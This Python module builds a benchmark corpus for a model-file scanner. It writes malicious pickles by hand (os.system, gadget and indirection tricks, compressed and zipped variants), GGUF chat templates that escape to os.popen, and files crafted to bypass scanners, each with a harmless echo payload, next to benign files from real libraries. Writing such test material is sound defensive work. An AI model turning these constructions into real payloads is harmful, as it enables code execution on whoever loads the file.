"""The benchmark corpus: hand-made malicious samples, benign files from real libraries.

Malicious pickles are written opcode by opcode (payloads are harmless ``echo``/``touch``
commands, and nothing here ever unpickles them). Benign files come from the real
libraries when they are importable (torch, numpy, joblib, scikit-learn, safetensors,
gguf) so that false alarms are measured on what people actually upload.

Each sample says what a good scanner should answer:

* ``malicious`` -- loading it runs code; it must be flagged (ideally as malicious);
* ``suspicious`` -- cannot be shown safe (unknown import, malformed header); it must be
  flagged, as suspicious or worse;
* ``benign`` -- an ordinary model file; any flag is a false alarm.

The letters refer to /work/shared/docs/reference/peer-scanners.md section 0.1 (a-u) and
the bypass catalogue of section 6.
"""

from __future__ import annotations

import bz2
import gzip
import io
import lzma
import pickle
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

MALICIOUS, SUSPICIOUS, BENIGN = "malicious", "suspicious", "benign"


@dataclass(frozen=True)
class Sample:
    name: str  # file name in the corpus directory (extensions deliberately vary)
    expect: str  # malicious | suspicious | benign
    ref: str  # where the case comes from, e.g. "0.1 g", "6 gadget", "real numpy"
    what: str  # one line
    build: Callable[[Path], None]  # writes the file at the given path


# -- opcode helpers (protocol 0-4 text and binary forms) -----------------------------------


def g(module: str, name: str) -> bytes:
    """GLOBAL module name (protocol 0 form)."""
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def s(text: str) -> bytes:
    """STRING (protocol 0), plain ASCII only."""
    return b"S'" + text.encode() + b"'\n"


def u(text: str) -> bytes:
    """SHORT_BINUNICODE (protocol 4)."""
    data = text.encode()
    return b"\x8c" + bytes([len(data)]) + data


def call(func: bytes, *args: bytes) -> bytes:
    """func(*args): the callable, MARK, the arguments, TUPLE, REDUCE."""
    return func + b"(" + b"".join(args) + b"tR"


ECHO = "echo weightscan-bench"
PROTO2 = b"\x80\x02"
PROTO4 = b"\x80\x04"


def os_system_pickle() -> bytes:
    return call(g("os", "system"), s(ECHO)) + b"."


def benign_pickle() -> bytes:
    return pickle.dumps({"lr": 0.001, "epochs": 3, "layers": [64, 32]}, protocol=2)


# -- malicious pickles ---------------------------------------------------------------------


def stack_global_memo() -> bytes:
    # b: protocol 4 STACK_GLOBAL with MEMOIZE after every push
    return (
        PROTO4
        + u("os")
        + b"\x94"
        + u("system")
        + b"\x94"
        + b"\x93\x94"
        + u(ECHO)
        + b"\x94\x85\x94R\x94."
    )


def stack_global_from_memo() -> bytes:
    # c: module and name fetched from memo slots with BINGET, decoys in other slots
    return (
        PROTO4
        + u("collections")
        + b"\x94"
        + u("os")
        + b"\x94"
        + u("OrderedDict")
        + b"\x94"
        + u("system")
        + b"\x94"
        + b"0000"  # POP x4: only the memo keeps them
        + b"h\x01h\x03\x93"
        + u(ECHO)
        + b"\x85R."
    )


def getattr_import_chain() -> bytes:
    # d: builtins.getattr(builtins.__import__('os'), 'system')('echo ...')
    module = call(g("builtins", "__import__"), s("os"))
    func = call(g("builtins", "getattr"), module, s("system"))
    return call(func, s(ECHO)) + b"."


def two_pickles() -> bytes:
    # e: a benign pickle, then a malicious one in the same stream
    return benign_pickle() + os_system_pickle()


def broken_after_payload() -> bytes:
    # f: nullifAI style: the payload runs, then an invalid opcode breaks the stream
    return call(g("os", "system"), s(ECHO)) + b"\xff\xfe garbage"


def pkgutil_resolve_name() -> bytes:
    # g: GHSA-vvpj-8cmc-gx39
    func = call(g("pkgutil", "resolve_name"), s("os:system"))
    return call(func, s(ECHO)) + b"."


def methodcaller_import_module() -> bytes:
    # h: operator.methodcaller('system', cmd)(importlib.import_module('os'))
    caller = call(g("operator", "methodcaller"), s("system"), s(ECHO))
    module = call(g("importlib", "import_module"), s("os"))
    return caller + b"(" + module + b"tR."


def unknown_global() -> bytes:
    # i: a third-party callable nobody vetted
    return PROTO2 + call(g("mypkg.evil", "run"), s("x")) + b"."


def numpy_builtins() -> bytes:
    # s: the builtins dict reached through an allowlisted module
    eval_fn = call(g("operator", "getitem"), g("numpy", "__builtins__"), s("eval"))
    return call(eval_fn, s("print(1)")) + b"."


def gadget(module: str, name: str, *args: str) -> Callable[[], bytes]:
    def build() -> bytes:
        return PROTO2 + call(g(module, name), *(s(a) for a in args)) + b"."

    return build


def functools_partial() -> bytes:
    part = call(g("functools", "partial"), g("os", "system"), s(ECHO))
    return part + b")R."


def padded_payload(n_items: int) -> Callable[[Path], None]:
    """u: a big benign list, then an os.system call at the very end."""

    def build(path: Path) -> None:
        with open(path, "wb") as f:
            f.write(PROTO2 + b"]q\x00")
            batch = 1000
            for start in range(0, n_items, batch):
                f.write(b"(")
                for i in range(start, min(start + batch, n_items)):
                    f.write(b"X\x10\x00\x00\x00" + b"%016d" % i)
                f.write(b"e")
            f.write(b"0")  # POP the list
            f.write(call(g("os", "system"), s(ECHO)) + b".")

    return build


def invalid_memo_get() -> bytes:
    # memo key never stored: a scanner must not resolve it to something harmless
    return PROTO4 + u("os") + b"\x94" + b"h\x05h\x00\x93" + u(ECHO) + b"\x85R."


# -- containers ----------------------------------------------------------------------------


def _state_dict_pickle(payload: bytes | None = None) -> bytes:
    """A torch-style state-dict pickle written by hand (no torch needed)."""
    storage = b"(" + s("storage") + g("torch", "FloatStorage") + s("0") + s("cpu") + b"K\x04tQ"
    tensor = (
        g("torch._utils", "_rebuild_tensor_v2")
        + b"("
        + storage
        + b"K\x00K\x04\x85K\x01\x85"
        + b"\x89"
        + g("collections", "OrderedDict")
        + b")RtR"
    )
    body = PROTO2 + g("collections", "OrderedDict") + b")R(" + s("weight") + tensor + b"u"
    if payload is not None:
        body += b"0" + payload[:-1] if payload.endswith(b".") else payload
        return body + b"."
    return body + b"."


def torch_zip(
    pickle_bytes: bytes, *, pickle_member: str = "archive/data.pkl", storage_bytes: int = 16
) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as zf:
        zf.writestr(pickle_member, pickle_bytes)
        zf.writestr("archive/byteorder", b"little")
        zf.writestr("archive/data/0", b"\x00" * storage_bytes)
        zf.writestr("archive/version", b"3\n")
    return buf.getvalue()


def set_zip_flag_bits(data: bytes, bits: int = 0x1) -> bytes:
    """CVE-2025-1945 class: general-purpose flag bits that PyTorch's reader ignores."""
    out = bytearray(data)
    pos = 0
    while (pos := out.find(b"PK\x03\x04", pos)) != -1:
        out[pos + 6] |= bits
        pos += 4
    pos = 0
    while (pos := out.find(b"PK\x01\x02", pos)) != -1:
        out[pos + 8] |= bits
        pos += 4
    return bytes(out)


def npy_object(pickle_bytes: bytes) -> bytes:
    header = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    pad = 64 - (10 + len(header) + 1) % 64
    header_bytes = (header + " " * pad + "\n").encode("latin-1")
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header_bytes)) + header_bytes + pickle_bytes


def legacy_torch(obj_pickle: bytes) -> bytes:
    magic = pickle.dumps(0x1950A86A20F9469CFC6C, protocol=2)
    version = pickle.dumps(1001, protocol=2)
    sys_info = pickle.dumps(
        {
            "protocol_version": 1001,
            "little_endian": True,
            "type_sizes": {"short": 2, "int": 4, "long": 4},
        },
        protocol=2,
    )
    keys = pickle.dumps([], protocol=2)
    return magic + version + sys_info + obj_pickle + keys


def zip_of(members: dict[str, bytes]) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in members.items():
            zf.writestr(name, data)
    return buf.getvalue()


def tar_of(members: dict[str, bytes]) -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w") as tf:
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tf.addfile(info, io.BytesIO(data))
    return buf.getvalue()


def safetensors_bytes(header_len: int | None = None) -> bytes:
    header = b'{"w":{"dtype":"F32","shape":[2],"data_offsets":[0,8]}}'
    header += b" " * (-len(header) % 8)
    n = len(header) if header_len is None else header_len
    return struct.pack("<Q", n) + header + b"\x00" * 8


def gguf_bytes(kv: dict[str, str], *, kv_count: int | None = None) -> bytes:
    """A minimal GGUF v3 file with string metadata and no tensors."""

    def gstr(text: str) -> bytes:
        data = text.encode()
        return struct.pack("<Q", len(data)) + data

    out = b"GGUF" + struct.pack("<IQQ", 3, 0, len(kv) if kv_count is None else kv_count)
    for key, value in kv.items():
        out += gstr(key) + struct.pack("<I", 8) + gstr(value)
    return out


SSTI_TEMPLATE = (
    "{{ cycler.__init__.__globals__.os.popen('" + ECHO + "').read() }}"
    "{% for m in messages %}{{ m['content'] }}{% endfor %}"
)
BENIGN_TEMPLATE = (
    "{% for message in messages %}<|{{ message['role'] }}|>\n"
    "{{ message['content'] }}</s>\n{% endfor %}"
    "{% if add_generation_prompt %}<|assistant|>\n{% endif %}"
)


# -- the sample list -----------------------------------------------------------------------


def _bytes(data: bytes | Callable[[], bytes]) -> Callable[[Path], None]:
    def build(path: Path) -> None:
        path.write_bytes(data() if callable(data) else data)

    return build


def hand_made_samples(*, quick: bool) -> list[Sample]:
    evil = os_system_pickle()
    m = MALICIOUS
    return [
        Sample("a_proto0_os_system.pkl", m, "0.1 a", "GLOBAL os.system + REDUCE", _bytes(evil)),
        Sample(
            "b_stack_global.pkl",
            m,
            "0.1 b",
            "protocol 4 STACK_GLOBAL + MEMOIZE",
            _bytes(stack_global_memo),
        ),
        Sample(
            "c_memo_indirection.pkl",
            m,
            "0.1 c",
            "STACK_GLOBAL operands from memo slots",
            _bytes(stack_global_from_memo),
        ),
        Sample(
            "d_getattr_import.pkl",
            m,
            "0.1 d",
            "getattr(__import__('os'), 'system')",
            _bytes(getattr_import_chain),
        ),
        Sample(
            "e_second_pickle.pkl",
            m,
            "0.1 e",
            "benign pickle, then a malicious one",
            _bytes(two_pickles),
        ),
        Sample(
            "f_broken_stream.pkl",
            m,
            "0.1 f",
            "payload, then an invalid opcode",
            _bytes(broken_after_payload),
        ),
        Sample(
            "g_pkgutil_resolve_name.pkl",
            m,
            "0.1 g",
            "pkgutil.resolve_name('os:system')",
            _bytes(pkgutil_resolve_name),
        ),
        Sample(
            "h_methodcaller.pkl",
            m,
            "0.1 h",
            "operator.methodcaller + import_module",
            _bytes(methodcaller_import_module),
        ),
        Sample(
            "i_unknown_global.pkl",
            SUSPICIOUS,
            "0.1 i",
            "unknown global mypkg.evil.run",
            _bytes(unknown_global),
        ),
        Sample("j_payload.cfg", m, "0.1 j", "malicious pickle named .cfg", _bytes(evil)),
        Sample(
            "k_torch_zip.pt",
            m,
            "0.1 k",
            "PyTorch zip, malicious archive/data.pkl",
            _bytes(torch_zip(_state_dict_pickle(evil))),
        ),
        Sample(
            "l_zip_data_bin.pt",
            m,
            "0.1 l",
            "zip member archive/data.bin, protocol 0",
            _bytes(torch_zip(evil, pickle_member="archive/data.bin")),
        ),
        Sample(
            "m_zip_broken.pt",
            m,
            "0.1 m",
            "PyTorch zip holding the broken pickle (f)",
            _bytes(torch_zip(broken_after_payload())),
        ),
        Sample(
            "n_zip_flag_bits.pt",
            m,
            "0.1 n",
            "zip flag bit 0 set (CVE-2025-1945 class)",
            _bytes(set_zip_flag_bits(torch_zip(_state_dict_pickle(evil)))),
        ),
        Sample(
            "o_object.npy",
            m,
            "0.1 o",
            ".npy object array holding a malicious pickle",
            _bytes(npy_object(evil)),
        ),
        Sample(
            "p_zlib.joblib",
            m,
            "0.1 p",
            "zlib-compressed pickle, .joblib",
            _bytes(zlib.compress(evil)),
        ),
        Sample(
            "q_valid.safetensors", BENIGN, "0.1 q", "valid safetensors", _bytes(safetensors_bytes())
        ),
        Sample(
            "r_absurd_header.safetensors",
            SUSPICIOUS,
            "0.1 r",
            "safetensors header length 2^40",
            _bytes(safetensors_bytes(1 << 40)),
        ),
        Sample(
            "s_numpy_builtins.pkl", m, "0.1 s", "numpy.__builtins__['eval']", _bytes(numpy_builtins)
        ),
        Sample(
            "t_uuid_gadget.pkl",
            m,
            "0.1 t",
            "uuid._get_command_stdout (CVE-2026-56315)",
            _bytes(gadget("uuid", "_get_command_stdout", "sh", "-c", ECHO)),
        ),
        Sample(
            "u_padded_payload.pkl",
            m,
            "0.1 u",
            "big benign list, os.system at the very end",
            padded_payload(100_000 if quick else 1_300_000),
        ),
        Sample(
            "gguf_ssti.gguf",
            m,
            "0.1 gguf",
            "GGUF chat template reaching os via __globals__",
            _bytes(
                gguf_bytes(
                    {"general.architecture": "llama", "tokenizer.chat_template": SSTI_TEMPLATE}
                )
            ),
        ),
        Sample(
            "gguf_huge_kv.gguf",
            SUSPICIOUS,
            "0.1 gguf",
            "GGUF declaring 2^40 metadata keys",
            _bytes(gguf_bytes({"general.architecture": "llama"}, kv_count=1 << 40)),
        ),
        # section 6: gadgets, indirection, containers, compression
        Sample(
            "x_pip_main.pkl",
            m,
            "6 gadget",
            "pip.main (CVE-2025-1716)",
            _bytes(gadget("pip", "main", "install", "nothing")),
        ),
        Sample(
            "x_ensurepip.pkl",
            m,
            "6 gadget",
            "ensurepip._run_pip (GHSA-xp4f-hrf8-rxw7)",
            _bytes(gadget("ensurepip", "_run_pip", "install")),
        ),
        Sample(
            "x_asyncio_transport.pkl",
            m,
            "6 gadget",
            "asyncio.unix_events._UnixSubprocessTransport (CVE-2025-10157)",
            _bytes(gadget("asyncio.unix_events", "_UnixSubprocessTransport", ECHO)),
        ),
        Sample(
            "x_collect_env.pkl",
            m,
            "6 gadget",
            "torch.utils.collect_env.run",
            _bytes(gadget("torch.utils.collect_env", "run", ECHO)),
        ),
        Sample(
            "x_spawnv_passfds.pkl",
            m,
            "6 gadget",
            "multiprocessing.util.spawnv_passfds",
            _bytes(gadget("multiprocessing.util", "spawnv_passfds", "/bin/sh")),
        ),
        Sample(
            "x_runpy.pkl",
            m,
            "6 gadget",
            "runpy._run_code",
            _bytes(gadget("runpy", "_run_code", "print(1)")),
        ),
        Sample(
            "x_builtins_exec.pkl",
            m,
            "6 gadget",
            "builtins.exec",
            _bytes(gadget("builtins", "exec", "print(1)")),
        ),
        Sample(
            "x_subprocess.pkl",
            m,
            "6 gadget",
            "subprocess.check_output",
            _bytes(gadget("subprocess", "check_output", ECHO)),
        ),
        Sample(
            "x_pandas_read_csv.pkl",
            m,
            "6 gadget",
            "pandas.read_csv of a URL (exfil)",
            _bytes(gadget("pandas", "read_csv", "http://127.0.0.1:9/x")),
        ),
        Sample(
            "x_partial.pkl",
            m,
            "6 indirection",
            "functools.partial(os.system, cmd)()",
            _bytes(functools_partial),
        ),
        # the real unpickler fails on the missing key before the call: cannot be shown
        # safe (a parser differential), but nothing runs
        Sample(
            "x_invalid_memo.pkl",
            SUSPICIOUS,
            "6 memo",
            "BINGET of a memo key never stored",
            _bytes(invalid_memo_get),
        ),
        Sample(
            "x_legacy_torch.bin",
            m,
            "6 multi-pickle",
            "legacy torch stream, payload in obj",
            _bytes(legacy_torch(evil)),
        ),
        Sample(
            "x_gzip.pkl.gz",
            m,
            "6 compression",
            "gzip-compressed pickle",
            _bytes(gzip.compress(evil)),
        ),
        Sample(
            "x_bz2.joblib", m, "6 compression", "bz2-compressed pickle", _bytes(bz2.compress(evil))
        ),
        Sample(
            "x_xz.joblib", m, "6 compression", "xz-compressed pickle", _bytes(lzma.compress(evil))
        ),
        Sample(
            "x_nested.zip",
            m,
            "6 containers",
            "zip in a zip, malicious data.pkl inside",
            _bytes(zip_of({"inner.zip": torch_zip(_state_dict_pickle(evil))})),
        ),
        Sample(
            "x_tar.tar",
            m,
            "6 containers",
            "tar holding a malicious pickle",
            _bytes(tar_of({"model/data.pkl": evil})),
        ),
        Sample(
            "x_npz_object.npz",
            m,
            "6 containers",
            ".npz with an object .npy member",
            _bytes(zip_of({"arr_0.npy": npy_object(evil)})),
        ),
        Sample(
            "x_renamed.safetensors", m, "6 extension", "pickle named .safetensors", _bytes(evil)
        ),
        # hand-written benign files
        Sample(
            "benign_state_dict.pt",
            BENIGN,
            "hand-made",
            "torch-style zip, OrderedDict",
            _bytes(torch_zip(_state_dict_pickle())),
        ),
        Sample(
            "benign_config.pkl",
            BENIGN,
            "hand-made",
            "dict of hyper-parameters",
            _bytes(benign_pickle),
        ),
        Sample(
            "benign.gguf",
            BENIGN,
            "hand-made",
            "GGUF with an ordinary chat template",
            _bytes(
                gguf_bytes(
                    {"general.architecture": "llama", "tokenizer.chat_template": BENIGN_TEMPLATE}
                )
            ),
        ),
        Sample(
            "config.json",
            BENIGN,
            "hand-made",
            "JSON config",
            _bytes(b'{"hidden_size": 64, "num_layers": 2}\n'),
        ),
        Sample(
            "README.md", BENIGN, "hand-made", "model card", _bytes(b"# model\n\nA test model.\n")
        ),
    ]


# -- fail-closed classes (issue "Fail closed"): a partial view must never mean clean ------------


def long_first_string() -> bytes:
    """Protocol 0: a 10 KB STRING first (past any sniff window), then the payload."""
    return s("a" * 10_000) + b"0" + os_system_pickle()


def gif_prefixed_pickle() -> bytes:
    """Starts with GIF89a: to the unpickler 'G' is BINFLOAT eating the next 8 bytes."""
    return b"GIF89a\x00\x00\x00" + b"0" + os_system_pickle()


def lzma_lookalike_pickle() -> bytes:
    """Its first 14 bytes are a plausible LZMA-alone header and also valid opcodes:
    BININT2, PROTO 0, BININT, BININT; three POPs, then the payload."""
    head = b"M\x00\x00" + b"\x80\x00" + b"J\x01\x02\x03\x04" + b"J\x00\x00\x00\x00"
    return head + b"000" + os_system_pickle()


def dotted_traversal() -> bytes:
    """A dotted name that walks from a vetted module through its ``torch`` attribute to a
    class that compiles code (torch.fx.GraphModule)."""
    return (
        PROTO4
        + u("torch.nn.modules.linear")
        + u("torch.fx.GraphModule")
        + b"\x93"
        + b"("
        + b"}"
        + b"}"
        + u("Evil")
        + b"tR."
    )


def code_string_gadget() -> bytes:
    """An unlisted gadget called with Python source as its argument."""
    return (
        PROTO4
        + g("torch._dynamo.guards", "GuardBuilder.get")
        + b"("
        + b"}"
        + s("__import__('os').system('" + ECHO + "')")
        + b"tR."
    )


def yaml_unsafe_load() -> bytes:
    return (
        call(g("yaml", "unsafe_load"), s('!!python/object/apply:os.system [\\"' + ECHO + '\\"]'))
        + b"."
    )


def memo_bomb() -> bytes:
    """LONG_BINPUT at index 2**32 - 16: CPython grows its memo array to the index."""
    return PROTO2 + b"N" + b"r" + struct.pack("<I", 0xFFFFFFF0) + b"."


def main_module_class() -> bytes:
    """What torch.save(model) writes from a script: a user class of __main__."""
    return PROTO2 + call(g("__main__", "MyModel")) + b"."


def safetensors_with_pickled_metadata() -> bytes:
    import base64

    payload = base64.b64encode(os_system_pickle()).decode()
    header = (
        '{"__metadata__":{"format":"pt","extra":"' + payload + '"},'
        '"w":{"dtype":"F32","shape":[2],"data_offsets":[0,8]}}'
    ).encode()
    header += b" " * (-len(header) % 8)
    return struct.pack("<Q", len(header)) + header + b"\x00" * 8


DATAFLOW_TEMPLATE = (
    "{% set g = '__glo' ~ 'bals__' %}"
    "{{ lipsum[g]['os'].popen('" + ECHO + "').read() }}"
    "{% for m in messages %}{{ m['content'] }}{% endfor %}"
)
DOS_TEMPLATE = (
    "{% for i in range(100000) %}{% for j in range(100000) %}x{% endfor %}"
    "{% endfor %}{% for m in messages %}{{ m['content'] }}{% endfor %}"
)


def fail_closed_samples() -> list[Sample]:
    m, sus = MALICIOUS, SUSPICIOUS
    return [
        Sample(
            "fc_long_first_string.pkl",
            m,
            "fail-closed 3",
            "10 KB first string, then payload",
            _bytes(long_first_string),
        ),
        Sample(
            "fc_gif_prefix.gif",
            m,
            "fail-closed 3",
            "pickle that starts with GIF89a",
            _bytes(gif_prefixed_pickle),
        ),
        Sample(
            "fc_lzma_lookalike.bin",
            m,
            "fail-closed 4",
            "pickle whose head is an LZMA header",
            _bytes(lzma_lookalike_pickle),
        ),
        Sample(
            "fc_dotted_traversal.pt",
            m,
            "fail-closed 1",
            "vetted prefix -> torch.fx",
            _bytes(dotted_traversal),
        ),
        Sample(
            "fc_code_string_gadget.pkl",
            m,
            "fail-closed 11",
            "unlisted gadget called with Python source",
            _bytes(code_string_gadget),
        ),
        Sample(
            "fc_yaml_unsafe_load.pkl",
            m,
            "fail-closed 2",
            "yaml.unsafe_load of a tag",
            _bytes(yaml_unsafe_load),
        ),
        Sample("fc_memo_bomb.pkl", sus, "fail-closed 9", "13-byte memo bomb", _bytes(memo_bomb)),
        Sample(
            "fc_main_class.pkl",
            sus,
            "fail-closed 12",
            "__main__.MyModel (user class)",
            _bytes(main_module_class),
        ),
        Sample(
            "fc_metadata_pickle.safetensors",
            sus,
            "fail-closed 10",
            "base64 pickle in __metadata__",
            _bytes(safetensors_with_pickled_metadata),
        ),
        Sample(
            "fc_template_dataflow.gguf",
            m,
            "fail-closed 7",
            "dunder key assembled with ~ through set",
            _bytes(
                gguf_bytes(
                    {"general.architecture": "llama", "tokenizer.chat_template": DATAFLOW_TEMPLATE}
                )
            ),
        ),
        Sample(
            "fc_template_dos.gguf",
            sus,
            "fail-closed 7",
            "nested 10^5 x 10^5 loop",
            _bytes(
                gguf_bytes(
                    {"general.architecture": "llama", "tokenizer.chat_template": DOS_TEMPLATE}
                )
            ),
        ),
    ]


def real_library_samples() -> list[Sample]:
    """Benign files written by the real libraries that are importable here."""
    out: list[Sample] = []
    try:
        import numpy as np
    except ImportError:
        return out
    weights = np.arange(64, dtype=np.float32).reshape(8, 8)

    def npy(path: Path) -> None:
        with open(path, "wb") as f:
            np.save(f, weights)

    def npz(path: Path) -> None:
        with open(path, "wb") as f:
            np.savez_compressed(f, w=weights, b=np.zeros(8))

    def np_pickle(path: Path) -> None:
        path.write_bytes(pickle.dumps({"w": weights, "step": 3}, protocol=4))

    out += [
        Sample("real_numpy.npy", BENIGN, "real numpy", "np.save float32", npy),
        Sample("real_numpy.npz", BENIGN, "real numpy", "np.savez_compressed", npz),
        Sample("real_numpy_dict.pkl", BENIGN, "real numpy", "pickle of ndarray dict", np_pickle),
    ]
    try:
        import joblib
        from sklearn.linear_model import LogisticRegression
        from sklearn.preprocessing import StandardScaler
    except ImportError:
        pass
    else:

        def sk(compress: int | tuple[str, int]) -> Callable[[Path], None]:
            def build(path: Path) -> None:
                X = np.array([[0.0, 1.0], [1.0, 0.0], [1.0, 1.0], [0.0, 0.0]])
                y = np.array([0, 1, 1, 0])
                model = LogisticRegression().fit(StandardScaler().fit_transform(X), y)
                joblib.dump(model, path, compress=compress)

            return build

        out += [
            Sample("real_sklearn.joblib", BENIGN, "real sklearn", "LogisticRegression", sk(0)),
            Sample(
                "real_sklearn_z.joblib", BENIGN, "real sklearn", "joblib compress=3 (zlib)", sk(3)
            ),
            Sample("real_sklearn_lz4.joblib", BENIGN, "real sklearn", "joblib lz4", sk(("lz4", 3))),
        ]
    try:
        from safetensors.numpy import save_file
    except ImportError:
        pass
    else:
        out.append(
            Sample(
                "real.safetensors",
                BENIGN,
                "real safetensors",
                "save_file",
                lambda p: save_file({"w": weights}, str(p), metadata={"fmt": "np"}),
            )
        )
    try:
        import gguf
    except ImportError:
        pass
    else:

        def write_gguf(path: Path) -> None:
            w = gguf.GGUFWriter(str(path), "llama")
            w.add_chat_template(BENIGN_TEMPLATE)
            w.add_tensor("w", weights)
            w.write_header_to_file()
            w.write_kv_data_to_file()
            w.write_tensors_to_file()
            w.close()

        out.append(Sample("real.gguf", BENIGN, "real gguf", "GGUFWriter, one tensor", write_gguf))
    out += _torch_samples()
    return out


def _torch_samples() -> list[Sample]:
    try:
        import torch
    except ImportError:
        return []

    def state_dict() -> dict[str, Any]:
        torch.manual_seed(0)
        return torch.nn.Sequential(
            torch.nn.Linear(8, 4), torch.nn.ReLU(), torch.nn.Linear(4, 2)
        ).state_dict()

    def save(path: Path) -> None:
        torch.save(state_dict(), path)

    def legacy(path: Path) -> None:
        torch.save(state_dict(), path, _use_new_zipfile_serialization=False)

    def full_model(path: Path) -> None:
        torch.save(
            {
                "epoch": 3,
                "model": state_dict(),
                "optim": torch.optim.SGD([torch.zeros(2, requires_grad=True)], lr=0.1).state_dict(),
            },
            path,
        )

    def script(path: Path) -> None:
        torch.jit.save(torch.jit.script(torch.nn.Linear(4, 2)), str(path))

    return [
        Sample("real_torch.pt", BENIGN, "real torch", "torch.save(state_dict)", save),
        Sample(
            "real_torch_legacy.bin", BENIGN, "real torch", "legacy (non-zip) torch.save", legacy
        ),
        Sample(
            "real_torch_ckpt.ckpt",
            BENIGN,
            "real torch",
            "checkpoint with optimizer state",
            full_model,
        ),
        Sample("real_torchscript.pt", BENIGN, "real torch", "torch.jit.save(script)", script),
    ]


def build_corpus(directory: Path, *, quick: bool) -> list[tuple[Sample, Path]]:
    """Write every sample into ``directory``; samples whose builder fails are skipped."""
    directory.mkdir(parents=True, exist_ok=True)
    built = []
    for sample in hand_made_samples(quick=quick) + fail_closed_samples() + real_library_samples():
        path = directory / sample.name
        try:
            sample.build(path)
        except Exception as exc:  # a library quirk must not stop the benchmark
            print(f"[corpus] skipped {sample.name}: {type(exc).__name__}: {exc}")
            continue
        built.append((sample, path))
    return built
